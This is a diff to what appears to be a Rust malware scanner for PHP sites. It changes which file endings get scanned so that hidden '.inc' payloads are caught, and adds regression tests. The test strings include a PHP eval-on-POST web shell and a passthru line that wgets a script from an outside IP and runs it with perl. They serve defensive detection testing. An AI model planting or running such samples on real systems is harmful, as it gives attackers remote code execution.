@@ -498,7 +498,8 @@ const QUIET_ENDINGS: &[&str] = &[
     "tif",
     "tiff",
     "avif",
-    "inc",
+    // (Not `inc`: PHP an application includes, where a payload waits for an injected `@include`
+    // too — fresh102's `.267645c4.inc`; read as PHP when it starts as PHP.)
     "module",
     "install",
     "theme",
@@ -1200,7 +1201,12 @@ mod tests {
         assert!(whys("x/config.local", "<?php return ['db' => 'site'];").is_empty());
         // Nor is text mentioning PHP's tag past the head, nor a quiet ending's PHP.
         assert!(!worth_reading("x/notes.cfg", format!("{}<?php eval($_POST[1]);", " ".repeat(600)).as_bytes()));
-        assert!(!worth_reading("x/hooks.inc", b"<?php eval($_POST[1]);"));
+        assert!(!worth_reading("x/hooks.module", b"<?php eval($_POST[1]);"));
+        // Regression: fresh102's payloads wait as `.267645c4.inc`; an application's own `.inc`
+        // doing nothing wrong is not reported.
+        assert!(worth_reading(".267645c4.inc", payload.as_bytes()));
+        assert_eq!(whys("vendor/tinymce/.267645c4.inc", payload)[0], Why::EvalOfDecoded);
+        assert!(whys("includes/common.inc", "<?php function t($s) { return $s; }").is_empty());
         // An old shell's short tag starts PHP too; XML's declaration does not.
         let short = "<?\n@passthru('cd /tmp;wget http://203.0.113.6/id/n.txt;perl n.txt');";
         assert_eq!(whys("x/Trojan-Downloader.PHP.AnakDompu.a", short), [Why::DownloadsProgram]);
